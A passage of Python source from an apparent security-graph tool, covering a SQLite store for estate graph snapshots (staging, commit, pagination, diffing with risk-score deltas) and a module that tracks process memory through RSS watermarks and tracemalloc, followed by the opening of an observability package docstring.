        n.get("severity"),
        n.get("risk_score"),
        json.dumps(n, default=str),
    )


def _edge_row(snapshot_id: int, e: dict[str, Any]) -> tuple:
    return (
        snapshot_id,
        e["id"],
        e["source"],
        e["target"],
        e["relationship"],
        e.get("direction", "directed"),
        1 if e.get("traversable", True) else 0,
        json.dumps(e, default=str),
    )


def merge_sorted_diff(old_rows, new_rows) -> tuple[dict, dict]:
    """Merge-join two ``(id, meta)`` streams sorted by id.

    Returns ``(added, removed)`` meta dicts holding only the ids present
    on one side — the O(delta)-memory core of :meth:`diff_snapshots`,
    shared by both store backends so neither materializes full per-
    snapshot id maps.
    """
    added: dict = {}
    removed: dict = {}
    old_it, new_it = iter(old_rows), iter(new_rows)
    old, new = next(old_it, None), next(new_it, None)
    while old is not None or new is not None:
        if new is None or (old is not None and old[0] < new[0]):
            removed[old[0]] = old[1]
            old = next(old_it, None)
        elif old is None or new[0] < old[0]:
            added[new[0]] = new[1]
            new = next(new_it, None)
        else:
            old, new = next(old_it, None), next(new_it, None)
    return added, removed


def enrich_diff(
    delta: dict[str, Any],
    old_node_meta: dict[str, tuple],
    new_node_meta: dict[str, tuple],
    old_edge_rel: dict[str, str],
    new_edge_rel: dict[str, str],
) -> dict[str, Any]:
    """Additive per-type / blast-radius enrichment of a snapshot diff.

    Shared by the SQLite and Postgres stores so both backends return the
    identical ``/v1/graph/diff`` contract. Node metadata maps node_id →
    ``(entity_type, severity, risk_score)``; edge metadata maps edge_id →
    relationship. Keys already in ``delta`` (the PR-6 id-list contract)
    are never touched — everything here is additive.
    """

    def type_counts(ids: list[str], meta: dict[str, tuple]) -> dict[str, int]:
        counts: dict[str, int] = {}
        for node_id in ids:
            entity = (meta.get(node_id) or (None,))[0] or "unknown"
            counts[entity] = counts.get(entity, 0) + 1
        return dict(sorted(counts.items()))

    def rel_counts(ids: list[str], rels: dict[str, str]) -> dict[str, int]:
        counts: dict[str, int] = {}
        for edge_id in ids:
            rel = rels.get(edge_id) or "unknown"
            counts[rel] = counts.get(rel, 0) + 1
        return dict(sorted(counts.items()))

    def blast(ids: list[str], meta: dict[str, tuple]) -> tuple[dict[str, int], float]:
        severities: dict[str, int] = {}
        risk = 0.0
        for node_id in ids:
            row = meta.get(node_id)
            if not row:
                continue
            if len(row) > 1 and row[1]:
                severities[row[1]] = severities.get(row[1], 0) + 1
            if len(row) > 2 and row[2] is not None:
                risk += float(row[2])
        return dict(sorted(severities.items())), round(risk, 4)

    sev_added, risk_added = blast(delta["nodes_added"], new_node_meta)
    sev_removed, risk_removed = blast(delta["nodes_removed"], old_node_meta)
    delta["nodes_added_by_type"] = type_counts(delta["nodes_added"], new_node_meta)
    delta["nodes_removed_by_type"] = type_counts(delta["nodes_removed"], old_node_meta)
    delta["edges_added_by_type"] = rel_counts(delta["edges_added"], new_edge_rel)
    delta["edges_removed_by_type"] = rel_counts(delta["edges_removed"], old_edge_rel)
    delta["blast_radius_delta"] = {
        "severity_added": sev_added,
        "severity_removed": sev_removed,
        "risk_score_added": risk_added,
        "risk_score_removed": risk_removed,
        "net_risk_score": round(risk_added - risk_removed, 4),
        "net_nodes": len(delta["nodes_added"]) - len(delta["nodes_removed"]),
        "net_edges": len(delta["edges_added"]) - len(delta["edges_removed"]),
    }
    return delta


class SQLiteGraphStore:
    """Thread-safe SQLite graph persistence."""

    def __init__(self, path: str | Path = ":memory:") -> None:
        self.path = str(path)
        self._lock = threading.RLock()
        self._conn = connect_sqlite(self.path, store="graph_store")
        self._conn.executescript(_DDL)
        for table, column, decl in _MIGRATE_COLUMNS:
            try:
                self._conn.execute(f"ALTER TABLE {table} ADD COLUMN {column} {decl}")
            except sqlite3.OperationalError:
                pass  # column exists (fresh DDL or already migrated)
        self._conn.commit()
        # In-memory cache of the deserialized current graph per tenant,
        # keyed by snapshot id — graph reads (/v1/graph, /paths, /query)
        # would otherwise re-parse the full document per request.
        self._graph_cache: dict[str, tuple[int, UnifiedGraph]] = {}

    def close(self) -> None:
        with self._lock:
            self._conn.close()

    # ── snapshots ───────────────────────────────────────────────────────

    def persist_graph(
        self, graph: UnifiedGraph, scan_id: str, tenant_id: str = "default",
        job_id: str | None = None
    ) -> int:
        """Persist as the new current snapshot; previous stays as history."""
        with instrument.track("db:graph_write", op="persist"), self._lock:
            cur = self._conn.cursor()
            cur.execute(
                "UPDATE graph_snapshots SET is_current = 0 WHERE tenant_id = ? AND is_current = 1",
                (tenant_id,),
            )
            return self._insert_snapshot(cur, graph, scan_id, tenant_id, 1, job_id)

    def stage_graph(
        self, graph: UnifiedGraph, scan_id: str, tenant_id: str = "default",
        job_id: str | None = None
    ) -> int:
        """Build a snapshot in the staging namespace (is_current = -1):
        invisible to every read path until :meth:`commit_staged` swaps it
        in — a crash mid-build leaves the previous estate graph intact
        and readable. Prior uncommitted stagings for the same job are
        garbage from a dead worker; they are dropped first."""
        with instrument.track("db:graph_write", op="stage"), self._lock:
            cur = self._conn.cursor()
            if job_id is not None:
                self._drop_orphan_stagings(cur, tenant_id, job_id)
            return self._insert_snapshot(cur, graph, scan_id, tenant_id, -1, job_id)

    def _drop_orphan_stagings(self, cur, tenant_id: str, job_id: str) -> None:
        for (orphan,) in cur.execute(
            "SELECT id FROM graph_snapshots WHERE tenant_id = ? AND job_id = ?"
            " AND is_current = -1",
            (tenant_id, job_id),
        ).fetchall():
            cur.execute("DELETE FROM graph_nodes WHERE snapshot_id = ?", (orphan,))
            cur.execute("DELETE FROM graph_edges WHERE snapshot_id = ?", (orphan,))
            cur.execute("DELETE FROM graph_snapshots WHERE id = ?", (orphan,))

    # ── streamed snapshots (PR 15) ──────────────────────────────────────
    # The out-of-core build path never holds a UnifiedGraph: the chunked
    # builder appends node/edge documents as it goes and finalizes with a
    # stub snapshot document ({"streamed": true} + pipeline extras). The
    # staged/commit lifecycle is identical to stage_graph/commit_staged.

    def begin_streamed_snapshot(
        self, scan_id: str, tenant_id: str = "default", job_id: str | None = None
    ) -> int:
        """Open a staged (is_current = -1) snapshot row with zero counts;
        chunks are appended via :meth:`append_snapshot_nodes` /
        :meth:`append_snapshot_edges` and the row becomes commit-ready
        after :meth:`finalize_streamed_snapshot`."""
        with self._lock:
            cur = self._conn.cursor()
            if job_id is not None:
                self._drop_orphan_stagings(cur, tenant_id, job_id)
            cur.execute(
                "INSERT INTO graph_snapshots (scan_id, tenant_id, created_at, is_current,"
                " node_count, edge_count, document, job_id) VALUES (?, ?, ?, -1, 0, 0, ?, ?)",
                (
                    scan_id,
                    tenant_id,
                    time.time(),
                    json.dumps({"schema_version": "1", "streamed": True}),
                    job_id,
                ),
            )
            self._conn.commit()
            return int(cur.lastrowid)

    def append_snapshot_nodes(self, snapshot_id: int, node_docs) -> None:
        """Upsert a chunk of node documents (INSERT OR REPLACE — a later
        chunk that re-merges an already-flushed node simply rewrites it)."""
        rows = [_node_row(snapshot_id, n) for n in node_docs]
        with instrument.track("db:graph_write", op="append_nodes"), self._lock:
            self._conn.executemany(_NODE_INSERT, rows)
            self._conn.commit()

    def append_snapshot_edges(self, snapshot_id: int, edge_docs) -> None:
        rows = [_edge_row(snapshot_id, e) for e in edge_docs]
        with instrument.track("db:graph_write", op="append_edges"), self._lock:
            self._conn.executemany(_EDGE_INSERT, rows)
            self._conn.commit()

    def finalize_streamed_snapshot(
        self,
        snapshot_id: int,
        node_count: int,
        edge_count: int,
        document_extra: dict[str, Any] | None = None,
    ) -> None:
        """Seal a streamed snapshot: final counts plus the stub document
        (``document_extra`` carries attack_paths/campaigns/analysis_status
        so /v1/graph/paths keeps working on streamed snapshots). The
        snapshot stays staged until :meth:`commit_staged`."""
        doc: dict[str, Any] = {"schema_version": "1", "streamed": True}
        if document_extra:
            doc.update(document_extra)
        with self._lock:
            self._conn.execute(
                "UPDATE graph_snapshots SET node_count = ?, edge_count = ?, document = ?"
                " WHERE id = ?",
                (node_count, edge_count, json.dumps(doc, default=str), snapshot_id),
            )
            self._conn.commit()

    def snapshot_info(self, snapshot_id: int) -> dict[str, Any] | None:
        with self._lock:
            row = self._conn.execute(
                "SELECT id, scan_id, tenant_id, created_at, is_current, node_count,"
                " edge_count, document FROM graph_snapshots WHERE id = ?",
                (snapshot_id,),
            ).fetchone()
        if row is None:
            return None
        return {
            "id": int(row[0]),
            "scan_id": row[1],
            "tenant_id": row[2],
            "created_at": row[3],
            "is_current": int(row[4]),
            "node_count": int(row[5]),
            "edge_count": int(row[6]),
            "document": json.loads(row[7]),
        }

    def commit_staged(self, snapshot_id: int, tenant_id: str = "default") -> bool:
        """Atomically promote a staged snapshot to current (demote the
        previous current to history in the same transaction). Idempotent:
        a snapshot that is already current or historical returns True
        without writing — re-commit after a crash-redelivery is a no-op."""
        with instrument.track("db:graph_write", op="commit_staged"), self._lock:
            row = self._conn.execute(
                "SELECT is_current FROM graph_snapshots WHERE id = ? AND tenant_id = ?",
                (snapshot_id, tenant_id),
            ).fetchone()
            if row is None:
                return False
            if int(row[0]) >= 0:
                return True  # already committed (current or superseded)
            cur = self._conn.cursor()
            cur.execute(
                "UPDATE graph_snapshots SET is_current = 0 WHERE tenant_id = ? AND is_current = 1",
                (tenant_id,),
            )
            cur.execute(
                "UPDATE graph_snapshots SET is_current = 1 WHERE id = ?", (snapshot_id,)
            )
            self._conn.commit()
            return True

    def job_snapshot_id(self, tenant_id: str, job_id: str) -> int | None:
        """Committed (current or historical, never staged) snapshot for a
        job — the cross-process publish dedupe for redelivered jobs."""
        with self._lock:
            row = self._conn.execute(
                "SELECT id FROM graph_snapshots WHERE tenant_id = ? AND job_id = ?"
                " AND is_current >= 0 ORDER BY id DESC LIMIT 1",
                (tenant_id, job_id),
            ).fetchone()
        return int(row[0]) if row else None

    def _insert_snapshot(
        self, cur, graph: UnifiedGraph, scan_id: str, tenant_id: str,
        is_current: int, job_id: str | None
    ) -> int:
        """Snapshot + node/edge rows in the caller's transaction (caller
        holds the lock); commits before returning."""
        doc = graph.to_dict()
        cur.execute(
            "INSERT INTO graph_snapshots (scan_id, tenant_id, created_at, is_current,"
            " node_count, edge_count, document, job_id) VALUES (?, ?, ?, ?, ?, ?, ?, ?)",
            (
                scan_id,
                tenant_id,
                time.time(),
                is_current,
                graph.node_count,
                graph.edge_count,
                json.dumps(doc, default=str),
                job_id,
            ),
        )
        snapshot_id = int(cur.lastrowid)
        cur.executemany(_NODE_INSERT, [_node_row(snapshot_id, n) for n in doc["nodes"]])
        cur.executemany(_EDGE_INSERT, [_edge_row(snapshot_id, e) for e in doc["edges"]])
        self._conn.commit()
        return snapshot_id

    def replace_current_snapshot(
        self, graph: UnifiedGraph, tenant_id: str = "default", expected_snapshot_id: int | None = None
    ) -> bool:
        """Overwrite the CURRENT snapshot row in place (no history row).

        Used by runtime-event ingest: behavioral edges update the live
        estate view without minting a full snapshot per batch. CAS
        semantics: when ``expected_snapshot_id`` is given and no longer
        current (a scan persisted meanwhile), returns False and writes
        nothing — callers reload and re-apply.
        """
        doc = graph.to_dict()
        with self._lock:
            current = self.current_snapshot_id(tenant_id)
            if current is None:
                return False
            if expected_snapshot_id is not None and current != expected_snapshot_id:
                return False
            cur = self._conn.cursor()
            cur.execute(
                "UPDATE graph_snapshots SET node_count = ?, edge_count = ?, document = ? WHERE id = ?",
                (graph.node_count, graph.edge_count, json.dumps(doc, default=str), current),
            )
            cur.execute("DELETE FROM graph_nodes WHERE snapshot_id = ?", (current,))
            cur.execute("DELETE FROM graph_edges WHERE snapshot_id = ?", (current,))
            cur.executemany(_NODE_INSERT, [_node_row(current, n) for n in doc["nodes"]])
            cur.executemany(_EDGE_INSERT, [_edge_row(current, e) for e in doc["edges"]])
            self._conn.commit()
            self._graph_cache[tenant_id] = (current, graph)
            return True

    def current_snapshot_id(self, tenant_id: str = "default") -> int | None:
        with self._lock:
            row = self._conn.execute(
                "SELECT id FROM graph_snapshots WHERE tenant_id = ? AND is_current = 1"
                " ORDER BY id DESC LIMIT 1",
                (tenant_id,),
            ).fetchone()
        return int(row[0]) if row else None

    def load_graph(self, tenant_id: str = "default", snapshot_id: int | None = None) -> UnifiedGraph | None:
        with self._lock:
            if snapshot_id is None:
                snapshot_id = self.current_snapshot_id(tenant_id)
            if snapshot_id is None:
                return None
            cached = self._graph_cache.get(tenant_id)
            if cached is not None and cached[0] == snapshot_id:
                return cached[1]
            row = self._conn.execute(
                "SELECT document FROM graph_snapshots WHERE id = ?", (snapshot_id,)
            ).fetchone()
            if not row:
                return None
            doc = json.loads(row[0])
        if doc.get("streamed"):
            # Streamed snapshots carry a stub document; hydrate the full
            # graph from the node/edge rows (this is the explicit
            # load-everything path — lazy readers use StoreBackedUnifiedGraph).
            doc["nodes"] = list(self.iter_nodes(snapshot_id))
            doc["edges"] = list(self.iter_edges(snapshot_id))
        graph = UnifiedGraph.from_dict(doc)
        with self._lock:
            self._graph_cache[tenant_id] = (snapshot_id, graph)
        return graph

    def snapshots(self, tenant_id: str = "default", limit: int = 20) -> list[dict[str, Any]]:
        with self._lock:
            rows = self._conn.execute(
                "SELECT id, scan_id, created_at, is_current, node_count, edge_count"
                " FROM graph_snapshots WHERE tenant_id = ? AND is_current >= 0"
                " ORDER BY id DESC LIMIT ?",
                (tenant_id, limit),
            ).fetchall()
        return [
            {
                "id": r[0],
                "scan_id": r[1],
                "created_at": r[2],
                "is_current": bool(r[3]),
                "node_count": r[4],
                "edge_count": r[5],
            }
            for r in rows
        ]

    # ── paginated iteration (PR 15) ─────────────────────────────────────
    # Keyset pagination over the (snapshot_id, node_id/edge_id) primary
    # keys: each page is fetched under the lock, rows are yielded outside
    # it, and no page pins more than ``batch`` documents — admin routes
    # and the store-backed lazy view iterate estates without full-graph
    # hydration.

    def iter_nodes(self, snapshot_id: int, entity_type: str | None = None, batch: int = 1000):
        """Yield parsed node documents in node_id order, optionally
        filtered by entity_type."""
        type_sql = " AND entity_type = ?" if entity_type else ""
        type_args = (entity_type,) if entity_type else ()
        last = ""
        while True:
            with self._lock:
                rows = self._conn.execute(
                    "SELECT node_id, document FROM graph_nodes WHERE snapshot_id = ?"
                    f" AND node_id > ?{type_sql} ORDER BY node_id LIMIT ?",
                    (snapshot_id, last, *type_args, batch),
                ).fetchall()
            if not rows:
                return
            last = rows[-1][0]
            for _, doc in rows:
                yield json.loads(doc)

    def iter_edges(self, snapshot_id: int, relationships=None, batch: int = 1000):
        """Yield parsed edge documents in edge_id order, optionally
        filtered to a set of relationship values."""
        rels = tuple(relationships) if relationships else ()
        rel_sql = f" AND relationship IN ({','.join('?' * len(rels))})" if rels else ""
        last = ""
        while True:
            with self._lock:
                rows = self._conn.execute(
                    "SELECT edge_id, document FROM graph_edges WHERE snapshot_id = ?"
                    f" AND edge_id > ?{rel_sql} ORDER BY edge_id LIMIT ?",
                    (snapshot_id, last, *rels, batch),
                ).fetchall()
            if not rows:
                return
            last = rows[-1][0]
            for _, doc in rows:
                yield json.loads(doc)

    def iter_node_meta(self, snapshot_id: int, batch: int = 4000):
        """Yield ``(node_id, entity_type, severity, risk_score)`` in
        node_id order — the diff/CSR metadata scan, no document parse."""
        last = ""
        while True:
            with self._lock:
                rows = self._conn.execute(
                    "SELECT node_id, entity_type, severity, risk_score FROM graph_nodes"
                    " WHERE snapshot_id = ? AND node_id > ? ORDER BY node_id LIMIT ?",
                    (snapshot_id, last, batch),
                ).fetchall()
            if not rows:
                return
            last = rows[-1][0]
            yield from rows

    def iter_edge_meta(self, snapshot_id: int, batch: int = 4000):
        """Yield ``(edge_id, source, target, relationship, direction,
        traversable)`` in edge_id order. Pre-migration rows (NULL
        direction) fall back to the edge document, fetched only for
        those rows."""
        last = ""
        while True:
            with self._lock:
                rows = self._conn.execute(
                    "SELECT edge_id, source, target, relationship, direction, traversable,"
                    " CASE WHEN direction IS NULL THEN document ELSE NULL END"
                    " FROM graph_edges WHERE snapshot_id = ? AND edge_id > ?"
                    " ORDER BY edge_id LIMIT ?",
                    (snapshot_id, last, batch),
                ).fetchall()
            if not rows:
                return
            last = rows[-1][0]
            for eid, src, dst, rel, direction, trav, doc in rows:
                if direction is None:
                    parsed = json.loads(doc)
                    direction = parsed.get("direction", "directed")
                    trav = 1 if parsed.get("traversable", True) else 0
                yield (eid, src, dst, rel, direction, int(trav))

    def fetch_node_docs(self, snapshot_id: int, node_ids) -> dict[str, dict[str, Any]]:
        """Parsed node documents for an explicit id list (chunked to stay
        under SQLite's bound-variable limit); missing ids are absent."""
        docs: dict[str, dict[str, Any]] = {}
        ids = list(node_ids)
        for i in range(0, len(ids), 500):
            chunk = ids[i : i + 500]
            placeholders = ",".join("?" * len(chunk))
            with self._lock:
                rows = self._conn.execute(
                    "SELECT node_id, document FROM graph_nodes WHERE snapshot_id = ?"
                    f" AND node_id IN ({placeholders})",
                    (snapshot_id, *chunk),
                ).fetchall()
            for nid, doc in rows:
                docs[nid] = json.loads(doc)
        return docs

    def fetch_node_range(
        self, snapshot_id: int, first_id: str, last_id: str
    ) -> list[tuple[str, dict[str, Any]]]:
        """All node docs with ``first_id <= node_id <= last_id`` — one
        chunk of the sorted keyspace for the lazy view's chunk cache
        (a range scan on the PK, no bound-variable list)."""
        with self._lock:
            rows = self._conn.execute(
                "SELECT node_id, document FROM graph_nodes WHERE snapshot_id = ?"
                " AND node_id >= ? AND node_id <= ? ORDER BY node_id",
                (snapshot_id, first_id, last_id),
            ).fetchall()
        return [(r[0], json.loads(r[1])) for r in rows]

    def fetch_edges_touching(
        self, snapshot_id: int, node_id: str, limit: int | None = None
    ) -> tuple[list[dict[str, Any]], list[dict[str, Any]]]:
        """Parsed (out_edges, in_edges) documents for one node — the
        shared adjacency fetch for get_node and the lazy view."""
        # No SQL ORDER BY: SQLite would satisfy "ORDER BY edge_id" off the
        # PK index and scan-filter the whole snapshot instead of using
        # idx_edges_source/target. Per-node edge lists are small; sort the
        # fetched rows here for the same deterministic edge_id order.
        with self._lock:
            out_rows = self._conn.execute(
                "SELECT edge_id, document FROM graph_edges"
                " WHERE snapshot_id = ? AND source = ?",
                (snapshot_id, node_id),
            ).fetchall()
            in_rows = self._conn.execute(
                "SELECT edge_id, document FROM graph_edges"
                " WHERE snapshot_id = ? AND target = ?",
                (snapshot_id, node_id),
            ).fetchall()
        out_rows.sort(key=lambda r: r[0])
        in_rows.sort(key=lambda r: r[0])
        if limit is not None:
            out_rows = out_rows[: int(limit)]
            in_rows = in_rows[: int(limit)]
        return [json.loads(r[1]) for r in out_rows], [json.loads(r[1]) for r in in_rows]

    def edge_doc_at(self, snapshot_id: int, ordinal: int) -> dict[str, Any] | None:
        """Edge document at a given ordinal of the edge_id-sorted
        enumeration (the lazy view's rare point lookup)."""
        with self._lock:
            row = self._conn.execute(
                "SELECT document FROM graph_edges WHERE snapshot_id = ?"
                " ORDER BY edge_id LIMIT 1 OFFSET ?",
                (snapshot_id, int(ordinal)),
            ).fetchone()
        return json.loads(row[0]) if row else None

    # ── queries ─────────────────────────────────────────────────────────

    def search_nodes(
        self, query: str, tenant_id: str = "default", limit: int = 50
    ) -> list[dict[str, Any]]:
        snapshot_id = self.current_snapshot_id(tenant_id)
        if snapshot_id is None:
            return []
        like = f"%{query}%"
        out: list[dict[str, Any]] = []
        last = ""
        while len(out) < limit:
            with self._lock:
                rows = self._conn.execute(
                    "SELECT node_id, document FROM graph_nodes WHERE snapshot_id = ?"
                    " AND node_id > ? AND (label LIKE ? OR node_id LIKE ?)"
                    " ORDER BY node_id LIMIT ?",
                    (snapshot_id, last, like, like, limit - len(out)),
                ).fetchall()
            if not rows:
                break
            last = rows[-1][0]
            out.extend(json.loads(r[1]) for r in rows)
        return out

    def get_node(self, node_id: str, tenant_id: str = "default") -> dict[str, Any] | None:
        snapshot_id = self.current_snapshot_id(tenant_id)
        if snapshot_id is None:
            return None
        with self._lock:
            row = self._conn.execute(
                "SELECT document FROM graph_nodes WHERE snapshot_id = ? AND node_id = ?",
                (snapshot_id, node_id),
            ).fetchone()
        if not row:
            return None
        node = json.loads(row[0])
        out_edges, in_edges = self.fetch_edges_touching(snapshot_id, node_id, limit=100)
        node["out_edges"] = out_edges
        node["in_edges"] = in_edges
        return node

    def diff_snapshots(
        self, old_id: int, new_id: int
    ) -> dict[str, Any]:
        """Node/edge additions + removals between two snapshots, plus
        per-type breakdowns and a blast-radius delta (additive keys).

        O(delta) memory: both snapshots stream their metadata in id
        order through a merge-join, so only the changed ids (plus their
        enrichment metadata) are ever held."""
        node_added, node_removed = merge_sorted_diff(
            ((r[0], (r[1], r[2], r[3])) for r in self.iter_node_meta(old_id)),
            ((r[0], (r[1], r[2], r[3])) for r in self.iter_node_meta(new_id)),
        )
        edge_added, edge_removed = merge_sorted_diff(
            ((r[0], r[3]) for r in self.iter_edge_meta(old_id)),
            ((r[0], r[3]) for r in self.iter_edge_meta(new_id)),
        )
        delta = {
            "nodes_added": sorted(node_added),
            "nodes_removed": sorted(node_removed),
            "edges_added": sorted(edge_added),
            "edges_removed": sorted(edge_removed),
            "old_snapshot_id": old_id,
            "new_snapshot_id": new_id,
        }
        return enrich_diff(delta, node_removed, node_added, edge_removed, edge_added)
