"""Host + device memory accounting: RSS watermarks, stage windows.

Three layers, cheapest first:

1. **Point reads.** ``current_rss_mb()`` is one /proc/self/statm read
   (~2 µs); ``getrusage_peak_mb()`` is the kernel's lifetime peak-RSS
   high-water mark (``ru_maxrss``) — monotone, survives frees, costs a
   syscall. Both are safe to call anywhere, any time.
2. **Watermark windows.** ``start_watermark()`` spawns one daemon
   poller thread sampling RSS at ``AGENT_BOM_MEM_POLL_S`` (default
   50 ms) so a bounded *window* (a bench run, one scan) gets its own
   peak even when the process-lifetime ``ru_maxrss`` was set earlier by
   unrelated work. ``watermark_peak_mb()`` reads the running max;
   ``stop_watermark()`` ends the window and returns its stats.
3. **Stage windows.** ``stage_mem(stage)`` wraps one pipeline stage:
   RSS delta (end − start) accumulates into a module registry the bench
   and ``resource_summary()`` read, and — only under
   ``AGENT_BOM_MEM_TRACEMALLOC`` (tracemalloc is a ~2× interpreter
   slowdown, never on by default) — a tracemalloc snapshot diff records
   the stage's top-N allocation sites. Both attach to the current span
   (``mem:delta_mb`` / ``mem:top_alloc``) when tracing is on.

``resource_summary()`` folds all of it plus the engine's device-side
gauges (``bitpack:resident_bytes`` et al.) into the one dict the bench
JSON, ``/v1/profile`` consumers, and ROADMAP item 1's 100k-tier memory
ceiling read.
"""

from __future__ import annotations

import os
import sys
import threading
import time
from contextlib import contextmanager
from typing import Any, Iterator

from agent_bom_trn import config
from agent_bom_trn.obs import trace as _trace

_MB = 1024.0 * 1024.0
try:
    _PAGE_BYTES = float(os.sysconf("SC_PAGE_SIZE"))
except (AttributeError, ValueError, OSError):  # pragma: no cover - non-POSIX
    _PAGE_BYTES = 4096.0

_lock = threading.Lock()
_poller: "_WatermarkPoller | None" = None
_stage_deltas: dict[str, float] = {}  # accumulated RSS MB delta per stage
_stage_tops: dict[str, list[dict[str, Any]]] = {}  # tracemalloc top-N per stage


def current_rss_mb() -> float:
    """Resident set size right now, in MiB (0.0 when /proc is absent)."""
    try:
        with open("/proc/self/statm", "rb") as fh:
            return int(fh.read().split()[1]) * _PAGE_BYTES / _MB
    except (OSError, IndexError, ValueError):  # pragma: no cover - no procfs
        return 0.0


def getrusage_peak_mb() -> float:
    """Kernel lifetime peak RSS (``getrusage`` ``ru_maxrss``), in MiB.

    Linux reports KiB; macOS reports bytes — normalized here so callers
    never see the platform split."""
    try:
        import resource  # noqa: PLC0415 - stdlib, absent on some platforms

        raw = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    except (ImportError, OSError):  # pragma: no cover - non-POSIX
        return 0.0
    if sys.platform == "darwin":  # pragma: no cover - linux container
        return raw / _MB
    return raw / 1024.0


class _WatermarkPoller(threading.Thread):
    def __init__(self, interval_s: float) -> None:
        super().__init__(name="agent-bom-mem-watermark", daemon=True)
        self.interval_s = interval_s
        self.stop_event = threading.Event()
        self.peak_mb = current_rss_mb()
        self.samples = 1
        self.t0 = time.perf_counter()

    def run(self) -> None:
        while not self.stop_event.wait(self.interval_s):
            rss = current_rss_mb()
            self.samples += 1
            if rss > self.peak_mb:
                self.peak_mb = rss

    def stats(self) -> dict[str, Any]:
        # Fold one final read so a window shorter than the poll interval
        # still observes something, and the caller's "now" is included.
        rss = current_rss_mb()
        if rss > self.peak_mb:
            self.peak_mb = rss
        return {
            "peak_rss_mb": round(self.peak_mb, 2),
            "samples": self.samples,
            "window_s": round(time.perf_counter() - self.t0, 3),
        }


def start_watermark(interval_s: float | None = None) -> bool:
    """Open an RSS watermark window; False (no-op) if one is open."""
    global _poller
    with _lock:
        if _poller is not None:
            return False
        _poller = _WatermarkPoller(interval_s or config.MEM_POLL_S)
        _poller.start()
        return True


def watermark_peak_mb() -> float:
    """Running peak of the open window (folds a fresh read); 0.0 idle."""
    with _lock:
        poller = _poller
    if poller is None:
        return 0.0
    rss = current_rss_mb()
    if rss > poller.peak_mb:
        poller.peak_mb = rss
    return round(poller.peak_mb, 2)


def stop_watermark() -> dict[str, Any] | None:
    """Close the window; returns its stats (None when no window open)."""
    global _poller
    with _lock:
        poller = _poller
        _poller = None
    if poller is None:
        return None
    poller.stop_event.set()
    poller.join(timeout=2.0)
    return poller.stats()


def peak_rss_mb() -> float:
    """Best available peak: max(open/last watermark window, getrusage)."""
    return round(max(watermark_peak_mb(), getrusage_peak_mb()), 2)


@contextmanager
def stage_mem(stage: str) -> Iterator[None]:
    """Per-stage memory window: accumulates the stage's RSS delta (MB,
    signed — frees show as negative) into the module registry and, when
    ``AGENT_BOM_MEM_TRACEMALLOC`` is on, diffs tracemalloc snapshots to
    record the stage's top-N allocation sites. Attaches both to the
    current span. Two /proc reads when the gate is off — cheap enough to
    wrap every pipeline stage unconditionally."""
    use_tracemalloc = config.MEM_TRACEMALLOC
    snap0 = None
    started_tracing = False
    if use_tracemalloc:
        import tracemalloc  # noqa: PLC0415 - ~2× slowdown, import only when gated on

        if not tracemalloc.is_tracing():
            tracemalloc.start()
            started_tracing = True
        snap0 = tracemalloc.take_snapshot()
    rss0 = current_rss_mb()
    try:
        yield
    finally:
        delta = current_rss_mb() - rss0
        with _lock:
            _stage_deltas[stage] = _stage_deltas.get(stage, 0.0) + delta
        span = _trace.current_span()
        if span is not None:
            span.set("mem:delta_mb", round(delta, 2))
        if use_tracemalloc and snap0 is not None:
            import tracemalloc  # noqa: PLC0415

            snap1 = tracemalloc.take_snapshot()
            top = snap1.compare_to(snap0, "lineno")[: max(config.MEM_TRACEMALLOC_TOPN, 1)]
            entries = [
                {
                    "site": str(stat.traceback),
                    "size_diff_kb": round(stat.size_diff / 1024.0, 1),
                    "count_diff": stat.count_diff,
                }
                for stat in top
                if stat.size_diff > 0
            ]
            with _lock:
                _stage_tops[stage] = entries
            if span is not None and entries:
                span.set("mem:top_alloc", entries[:3])
            if started_tracing:
                tracemalloc.stop()


def stage_mem_deltas() -> dict[str, float]:
    """{stage: accumulated RSS delta MB} since the last reset."""
    with _lock:
        return {k: round(v, 2) for k, v in sorted(_stage_deltas.items())}


def stage_tracemalloc_tops() -> dict[str, list[dict[str, Any]]]:
    """{stage: top allocation sites} from gated tracemalloc windows."""
    with _lock:
        return {k: list(v) for k, v in sorted(_stage_tops.items())}


def reset_stage_mem() -> None:
    with _lock:
        _stage_deltas.clear()
        _stage_tops.clear()


def resource_summary() -> dict[str, Any]:
    """One dict for everything resource-shaped this process knows:
    host RSS (now / window peak / lifetime peak), per-stage deltas and
    allocation tops, and the engine's device-side byte gauges folded in
    (``bitpack:resident_bytes`` → ``device.resident_bytes``)."""
    from agent_bom_trn.engine.telemetry import gauges  # noqa: PLC0415 - avoid import cycle

    g = gauges()
    device_bytes = {k: v for k, v in g.items() if k.endswith("_bytes")}
    out: dict[str, Any] = {
        "host": {
            "rss_mb": round(current_rss_mb(), 2),
            "peak_rss_mb": peak_rss_mb(),
            "getrusage_peak_mb": round(getrusage_peak_mb(), 2),
            "watermark_active": _poller is not None,
        },
        "stages": {"mem_delta_mb": stage_mem_deltas()},
        "device": {
            "resident_bytes": g.get("bitpack:resident_bytes", 0.0),
            "resident_mb": round(g.get("bitpack:resident_bytes", 0.0) / _MB, 2),
            "byte_gauges": device_bytes,
        },
    }
    tops = stage_tracemalloc_tops()
    if tops:
        out["stages"]["tracemalloc_top"] = tops
    return out


def _snapshot_state() -> tuple:
    """Conftest hook: capture (poller running?, stage deltas, stage tops)."""
    with _lock:
        return (_poller is not None, dict(_stage_deltas), dict(_stage_tops))


def _restore_state(state: tuple) -> None:
    """Conftest hook: stop a leaked poller, restore the stage registries."""
    was_running, deltas, tops = state
    if not was_running and _poller is not None:
        stop_watermark()
    with _lock:
        _stage_deltas.clear()
        _stage_deltas.update(deltas)
        _stage_tops.clear()
        _stage_tops.update(tops)
