"""Estate-wide observability: hierarchical tracing + latency histograms.

One surface for every layer (engine dispatch, estate pipeline, SAST,
control-plane API, runtime gateway, bench, CLI):

- ``obs.trace``  — contextvars-based hierarchical span tracer with a
  bounded ring buffer of completed spans. Near-zero overhead when
  disabled (the default); flipped on by ``AGENT_BOM_TRACE=1``, the CLI
  ``--trace PATH`` flags, or ``AGENT_BOM_BENCH_TRACE`` in the bench.
- ``obs.hist``   — always-on log-bucketed latency histograms with
  p50/p95/p99 snapshots (API routes, gateway forwards).
- ``obs.export`` — Chrome trace-event JSON (Perfetto-loadable) and
  JSONL exporters plus per-name span summaries for the bench JSON, and
  the cross-process JSONL merge (``merge_jsonl``/``stitch_traces``).
- ``obs.propagation`` — W3C traceparent-style ``inject()``/``extract()``
  carrying ``(trace_id, span_id)`` across process seams (API replicas,
  the scan queue's persisted ``trace_ctx``, gateway forwards).
- ``obs.slo``    — declarative operator SLO table evaluated from the
